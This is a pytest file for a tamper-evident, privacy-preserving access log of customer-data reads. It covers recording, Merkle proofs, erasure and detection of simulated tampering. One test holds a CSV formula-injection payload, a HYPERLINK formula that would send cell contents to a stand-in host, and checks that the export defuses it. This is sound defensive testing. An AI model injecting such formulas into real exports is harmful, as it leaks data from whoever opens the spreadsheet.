"""The access log through the API and the database, on SQLite and PostgreSQL: what a read records, that the
log holds no plaintext, proofs a client can check, and tampering found at its first bad position."""

from __future__ import annotations

import base64
from collections.abc import Callable

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import delete, func, select, update
from sqlalchemy.orm import Session

from obhut.audit import merkle, notes, rules, tasks
from obhut.audit import service as audit
from obhut.audit.models import AuditCheckpoint, AuditEntry
from obhut.audit.tasks import Report, verify
from obhut.container import Container
from obhut.kit.db import unit_of_work
from tests.access.staff import bearer, signed_in_with_mfa
from tests.conftest import WORKSPACE, jane

BASE = f"/api/v1/workspaces/{WORKSPACE}"
AUDIT = f"{BASE}/audit"
EMAIL = "Jane.Musterfrau@example.com"


def _customer(client: TestClient, ref: str = "K-1") -> str:
    response = client.post(f"{BASE}/customers", json=jane(external_ref=ref))
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


def _columns(entry: AuditEntry) -> dict[str, object]:
    """What an entry's body holds, as its columns say."""
    return {name: getattr(entry, name) for name in rules.CONTENT_COLUMNS}


def _verify(container: Container, exported: tuple[str, ...] = (), workers: int = 1) -> Report:
    """Verifies in this process, or (PostgreSQL) in `workers` processes that read a chunk each."""
    audit.sequence_all(container.sessions, container.vault, WORKSPACE)
    with container.sessions() as session:
        keyring = container.vault.open(session, WORKSPACE)
        return verify(session, keyring, WORKSPACE, exported, chunk_size=2, workers=workers)


def test_a_read_is_recorded_with_who_why_what_and_where(client: TestClient, container: Container) -> None:
    customer_id = _customer(client)
    agent = signed_in_with_mfa(client, container, "agent@example.com", "support_agent")
    headers = {**bearer(agent), "X-Request-ID": "req-42", "User-Agent": "crm/1.0"}
    read = client.get(
        f"{BASE}/customers/{customer_id}", params={"purpose": "billing", "ticket": "T-7"}, headers=headers
    )
    assert read.status_code == 200, read.text
    entries = client.get(f"{AUDIT}/entries", params={"purpose": "billing"}).json()
    assert len(entries) == 1
    entry = entries[0]
    assert entry["action"] == "api:customer:read"
    assert entry["actor"].startswith("staff:")
    assert entry["role"] == "support_agent"
    assert (entry["purpose"], entry["ticket"], entry["request_id"], entry["user_agent"]) == (
        "billing",
        "T-7",
        "req-42",
        "crm/1.0",
    )
    assert entry["returned"]["iban"] == read.json()["disclosure"]["iban"] == "revealed"
    assert entry["outcome"] == "revealed"
    assert "financial" in entry["categories"]
    assert entry["customer"] is not None
    assert customer_id not in entry["customer"]


def test_a_failed_request_leaves_no_entry_and_a_search_leaves_no_term(client: TestClient, container: Container) -> None:
    _customer(client)
    before = len(client.get(f"{AUDIT}/entries").json())
    assert client.get(f"{BASE}/customers/00000000-0000-7000-8000-000000000000").status_code == 404
    assert len(client.get(f"{AUDIT}/entries").json()) == before
    found = client.post(f"{BASE}/customers/lookup", params={"purpose": "support"}, json={"email": EMAIL})
    assert found.status_code == 200
    with container.sessions() as session:
        rows = session.scalars(select(AuditEntry).where(AuditEntry.action == "api:customer:search")).all()
        assert [(r.search_kind, r.count) for r in rows] == [("email lookup", 1)]
        for row in session.scalars(select(AuditEntry)):
            text = repr(_columns(row)).casefold()
            assert "musterfrau" not in text
            assert "jane" not in text


def test_proofs_over_the_api_check_against_the_signed_checkpoint(client: TestClient, container: Container) -> None:
    customer_id = _customer(client)
    first = client.get(f"{AUDIT}/checkpoint")
    assert first.status_code == 200
    for _ in range(6):
        client.get(f"{BASE}/customers/{customer_id}", params={"purpose": "support"})
    proof = client.get(f"{AUDIT}/proofs/inclusion", params={"index": 0}).json()
    with container.sessions() as session:
        leaf = session.scalar(select(AuditEntry.leaf_hash).where(AuditEntry.seq == 0))
    assert leaf is not None
    root = base64.b64decode(proof["root"])
    path = [base64.b64decode(h) for h in proof["proof"]]
    assert proof["size"] == 7
    assert merkle.verify_inclusion(0, 7, bytes(leaf), path, root)
    assert not merkle.verify_inclusion(1, 7, bytes(leaf), path, root)
    consistency = client.get(f"{AUDIT}/proofs/consistency", params={"first": 1}).json()
    old_root = notes.parse_checkpoint_body(notes.parse_signed_note(first.text)[0])[2]
    proof_hashes = [base64.b64decode(h) for h in consistency["proof"]]
    assert merkle.verify_consistency(1, 7, old_root, root, proof_hashes)


def test_erasure_leaves_the_log_verifiable(client: TestClient, container: Container) -> None:
    customer_id = _customer(client)
    client.get(f"{BASE}/customers/{customer_id}", params={"purpose": "support"})
    assert client.delete(f"{BASE}/customers/{customer_id}").status_code == 204
    report = _verify(container)
    assert report.ok, report.problems
    assert report.entries == 3


Tamper = Callable[[Session], None]


def _set_seq(session: Session, old: int, new: int) -> None:
    session.execute(update(AuditEntry).where(AuditEntry.seq == old).values(seq=new))


def _reorder(session: Session) -> None:
    _set_seq(session, 2, -1)
    _set_seq(session, 3, 2)
    _set_seq(session, -1, 3)


def _truncate(session: Session) -> None:
    session.execute(delete(AuditEntry).where(AuditEntry.seq >= 4))


def _forge(session: Session) -> None:
    head = session.scalar(select(AuditCheckpoint).order_by(AuditCheckpoint.size.desc()).limit(1))
    assert head is not None
    body, signatures = notes.parse_signed_note(head.note)
    name, key_id, signature = signatures[0]
    origin, size, _root = notes.parse_checkpoint_body(body)
    forged_root = bytes(32)
    head.root = forged_root
    head.note = notes.signed_note(notes.checkpoint_body(origin, size, forged_root), name, key_id, signature)


def _insert(session: Session) -> None:
    row = session.scalar(select(AuditEntry).where(AuditEntry.seq == 5))
    assert row is not None
    values = {c: getattr(row, c) for c in AuditEntry.__table__.columns.keys()}  # noqa: SIM118
    session.add(AuditEntry(**(values | {"entry_id": "00000000-0000-7000-8000-0000000000ff", "seq": 6})))


TAMPERING: dict[str, tuple[Tamper, int]] = {
    "change": (lambda s: s.execute(update(AuditEntry).where(AuditEntry.seq == 3).values(purpose="marketing")), 3),
    "delete": (lambda s: s.execute(delete(AuditEntry).where(AuditEntry.seq == 2)), 2),
    "reorder": (_reorder, 2),
    "truncate": (_truncate, 4),
    "insert": (_insert, 6),
    "forge": (_forge, 0),
}


@pytest.mark.parametrize("workers", [1, 2])
@pytest.mark.parametrize("kind", sorted(TAMPERING))
def test_tampering_is_found_at_its_first_bad_position(
    client: TestClient, container: Container, kind: str, workers: int
) -> None:
    customer_id = _customer(client)
    for _ in range(5):
        client.get(f"{BASE}/customers/{customer_id}", params={"purpose": "support"})
    assert _verify(container, workers=workers).ok
    with container.sessions() as session:
        assert session.scalar(select(func.count()).select_from(AuditEntry)) == 6
    tamper, first_bad = TAMPERING[kind]
    with unit_of_work(container.sessions) as session:
        tamper(session)
    report = _verify(container, workers=workers)
    assert not report.ok
    assert report.first_bad == first_bad, report.problems


def _rewrite(session: Session, seq: int) -> None:
    """Changes an entry with its body and leaf hash made to match: only the signed checkpoints can tell."""
    row = session.scalar(select(AuditEntry).where(AuditEntry.seq == seq))
    assert row is not None
    row.outcome = "failed"
    row.body = rules.body_bytes(_columns(row))
    row.leaf_hash = merkle.leaf_hash(rules.leaves_data(seq, [row.body])[0])


@pytest.mark.parametrize("workers", [1, 2])
@pytest.mark.parametrize(
    ("kind", "first_bad"),
    [("change", 37), ("delete", 37), ("delete", 39), ("delete-chunk", 40), ("reorder", 37), ("rewrite", 30)],
)
def test_tampering_deep_in_a_log_read_in_many_chunks_is_found_at_its_position(
    container: Container, kind: str, first_bad: int, workers: int
) -> None:
    """Verification hashes whole chunks at a time (4,096 entries; 8 here) between signed checkpoints, in this
    process or in worker processes that read a chunk each."""
    context = audit.Context("staff:1", "support_agent")
    for _ in range(6):  # 60 entries, a checkpoint after every 10
        with unit_of_work(container.sessions) as session:
            audit.record_many(session, None, WORKSPACE, context, [audit.Event("api:session:login")] * 10)
        audit.sequence_all(container.sessions, container.vault, WORKSPACE)
    with container.sessions() as session:
        keyring = container.vault.open(session, WORKSPACE)
        clean = verify(session, keyring, WORKSPACE, chunk_size=8, workers=workers)
    assert (clean.ok, clean.entries, clean.checkpoints) == (True, 60, 6)
    with unit_of_work(container.sessions) as session:
        if kind == "change":
            session.execute(update(AuditEntry).where(AuditEntry.seq == 37).values(outcome="failed"))
        elif kind == "rewrite":  # found by the checkpoint after it: from the last one that matched, 30
            _rewrite(session, 37)
        elif kind == "delete":  # 39: the last of its chunk, which then ends early
            session.execute(delete(AuditEntry).where(AuditEntry.seq == first_bad))
        elif kind == "delete-chunk":  # a whole chunk: a worker finds none of its entries
            session.execute(delete(AuditEntry).where(AuditEntry.seq >= 40, AuditEntry.seq < 48))
        else:
            _set_seq(session, 37, -1)
            _set_seq(session, 38, 37)
            _set_seq(session, -1, 38)
    with container.sessions() as session:
        report = verify(session, container.vault.open(session, WORKSPACE), WORKSPACE, chunk_size=8, workers=workers)
    assert (report.ok, report.first_bad) == (False, first_bad), report.problems


@pytest.mark.parametrize("workers", [1, 2])
def test_a_log_truncated_with_its_checkpoints_is_caught_by_an_exported_checkpoint(
    client: TestClient, container: Container, workers: int
) -> None:
    customer_id = _customer(client)
    for _ in range(3):
        client.get(f"{BASE}/customers/{customer_id}", params={"purpose": "support"})
    exported = client.get(f"{AUDIT}/checkpoint").text
    with unit_of_work(container.sessions) as session:
        session.execute(delete(AuditEntry).where(AuditEntry.seq >= 2))
        session.execute(delete(AuditCheckpoint).where(AuditCheckpoint.size > 2))
    assert not _verify(container, workers=workers).ok  # entries no checkpoint covers any more
    report = _verify(container, (exported,), workers)
    assert report.first_bad == 2, report.problems


def test_verification_in_workers_reads_no_further_than_the_log_it_started_with(container: Container) -> None:
    """Entries sequenced while a verification runs are not the workers' business: each reads its chunk up to
    the size the verification started with (here: a chunk of 8 asked for 2, and 2 it gets)."""
    with container.sessions() as session:
        empty = verify(session, container.vault.open(session, WORKSPACE), WORKSPACE, chunk_size=8, workers=2)
    assert (empty.ok, empty.entries, empty.checkpoints) == (True, 0, 0)
    with unit_of_work(container.sessions) as session:
        audit.record_many(session, None, WORKSPACE, audit.Context("staff:1", "reader"), [audit.Event("api:x:y")] * 12)
    audit.sequence_all(container.sessions, container.vault, WORKSPACE)
    plan = tasks._Plan(WORKSPACE, (12,), deep=True, chunk_size=8)
    with container.engine.connect() as connection:
        checked = tasks._check_range(connection, (plan, 8, 2))
    assert (checked.whole, checked.changed, checked.stops, checked.block.size) == (True, [], [], 2)


def test_who_looked_at_my_data_in_german_and_the_log_as_csv(client: TestClient, container: Container) -> None:
    customer_id = _customer(client)
    other = _customer(client, "K-2")
    agent = signed_in_with_mfa(client, container, "agent@example.com", "support_agent")
    client.get(f"{BASE}/customers/{customer_id}", params={"purpose": "billing"}, headers=bearer(agent))
    client.get(f"{BASE}/customers/{other}", params={"purpose": "support"}, headers=bearer(agent))
    report = client.get(f"{AUDIT}/customers/{customer_id}/report", headers={"Accept-Language": "de-DE,de;q=0.9"})
    assert report.status_code == 200, report.text
    body = report.json()
    assert body["language"] == "de"
    assert [(e["who"], e["what"]) for e in body["entries"]] == [
        ("support agent", "hat Ihre Daten angesehen"),
        ("owner", "hat Ihren Datensatz angelegt"),
    ]
    assert body["entries"][0]["why"] == "Billing and payments"
    assert "Bank- und Kartendaten" in body["entries"][0]["data"]
    assert "staff:" not in report.text
    english = client.get(f"{AUDIT}/customers/{customer_id}/report", params={"lang": "en"}).json()
    assert english["entries"][0]["what"] == "prepared a report like this one for you"  # the first report, logged
    exported = client.get(f"{AUDIT}/entries.csv", params={"customer_id": other})
    assert exported.headers["content-type"].startswith("text/csv")
    lines = exported.text.strip().splitlines()
    assert lines[0].startswith("seq,at,actor,role,action,outcome,customer")
    assert [line.split(",")[4] for line in lines[1:]] == ["api:customer:read", "api:customer:create"]


def test_sign_ins_are_recorded_failed_ones_without_the_name_tried(client: TestClient, container: Container) -> None:
    signed_in_with_mfa(client, container, "agent@example.com", "support_agent")
    wrong = {"username": "agent@example.com", "password": "not the password"}
    assert client.post(f"{BASE}/auth/login", json=wrong).status_code == 401
    entries = client.get(f"{AUDIT}/entries", params={"action": "api:session:login"}).json()
    assert [(e["outcome"], e["actor"].split(":")[0]) for e in entries] == [("failed", "anonymous"), ("ok", "staff")]
    assert entries[0]["search_kind"] == "account name"
    with container.sessions() as session:
        stored = session.scalars(select(AuditEntry).where(AuditEntry.outcome == "failed")).one()
    assert stored.search_hash is not None
    assert "agent@example.com" not in repr(_columns(stored)) + stored.body.decode()
    kinds = {e["action"] for e in client.get(f"{AUDIT}/entries").json()}
    assert {"api:totp:enrol", "api:session:login"} <= kinds


def test_the_csv_export_defuses_formulas_a_client_sent(client: TestClient) -> None:
    customer_id = _customer(client)
    headers = {"User-Agent": '=HYPERLINK("http://x.invalid/?"&A1,"x")'}
    client.get(f"{BASE}/customers/{customer_id}", params={"purpose": "support"}, headers=headers)
    exported = client.get(f"{AUDIT}/entries.csv", params={"action": "api:customer:read"}).text
    assert "'=HYPERLINK" in exported
    assert ",=HYPERLINK" not in exported


def test_a_read_the_policy_refuses_is_recorded_as_denied(client: TestClient, container: Container) -> None:
    customer_id = _customer(client)
    agent = signed_in_with_mfa(client, container, "agent@example.com", "support_agent")
    refused = client.get(f"{BASE}/customers/{customer_id}", params={"purpose": "curiosity"}, headers=bearer(agent))
    assert refused.status_code == 422
    assert client.get(
        f"{BASE}/customers/{customer_id}", params={"purpose": "support"}, headers=bearer(agent)
    ).is_success
    reads = [e for e in client.get(f"{AUDIT}/entries").json() if e["action"] == "api:customer:read"]
    denied, allowed = sorted(reads, key=lambda e: e["outcome"] != "denied")  # two entries: the refusal first
    assert (denied["outcome"], denied["purpose"], denied["role"]) == ("denied", "curiosity", "support_agent")
    assert denied["customer"] == allowed["customer"] is not None  # the same pseudonym as the customer's other reads


def test_verify_over_the_api_finds_the_first_bad_position_and_is_recorded(
    client: TestClient, container: Container
) -> None:
    customer_id = _customer(client)
    for _ in range(5):
        client.get(f"{BASE}/customers/{customer_id}", params={"purpose": "support"})
    checkpoint = client.get(f"{AUDIT}/checkpoint")
    assert checkpoint.headers["last-modified"].endswith(" GMT")
    entry = client.get(f"{AUDIT}/entries/3").json()
    assert (entry["seq"], entry["action"], entry["purpose"]) == (3, "api:customer:read", "support")
    assert client.get(f"{AUDIT}/entries/999").status_code == 404
    good = client.post(f"{AUDIT}/verify")
    assert good.status_code == 200, good.text
    assert good.json()["checkpoints"] >= 1
    assert good.json() | {"checkpoints": 1} == {
        "ok": True, "size": 6, "checkpoints": 1, "first_bad": None, "problems": []
    }  # fmt: skip
    with unit_of_work(container.sessions) as session:
        session.execute(update(AuditEntry).where(AuditEntry.seq == 3).values(purpose="marketing"))
    bad = client.post(f"{AUDIT}/verify").json()
    assert (bad["ok"], bad["first_bad"], bad["size"]) == (False, 3, 7)  # the first verify's entry is in now
    verified = client.get(f"{AUDIT}/entries", params={"action": "api:audit:verify"}).json()
    assert [e["outcome"] for e in verified] == ["failed", "ok"]
    agent = signed_in_with_mfa(client, container, "agent@example.com", "support_agent")
    assert client.post(f"{AUDIT}/verify", headers=bearer(agent)).status_code == 403


def test_entries_about_a_customer_being_erased_keep_the_pseudonym_and_no_sealed_id(container: Container) -> None:
    """A purge's entries go in the transaction that destroys the customers' keys: nothing could open an id
    sealed under them, so none is sealed (and their keys are not opened for it); the pseudonym stays."""
    with unit_of_work(container.sessions) as session:
        kept, going = (container.customers.create(session, WORKSPACE, jane(external_ref=r)).id for r in ("K-1", "K-2"))
    with unit_of_work(container.sessions) as session:
        keyring = container.vault.open(session, WORKSPACE)
        events = [audit.Event("worker:customer:purge", customer_id=c) for c in (kept, going)]
        audit.record_many(session, keyring, WORKSPACE, audit.Context("system:retention", "system"), events, {going})
    with container.sessions() as session:
        keyring = container.vault.open(session, WORKSPACE)
        rows = {
            r.subject: r.sealed for r in session.scalars(select(AuditEntry).where(AuditEntry.action.like("worker:%")))
        }
        assert set(rows) == {audit.pseudonym(keyring, kept), audit.pseudonym(keyring, going)}
        assert rows[audit.pseudonym(keyring, going)] is None
        sealed = rows[audit.pseudonym(keyring, kept)]
        assert sealed is not None
        assert keyring.subject(kept).open("audit", sealed) == kept.encode()
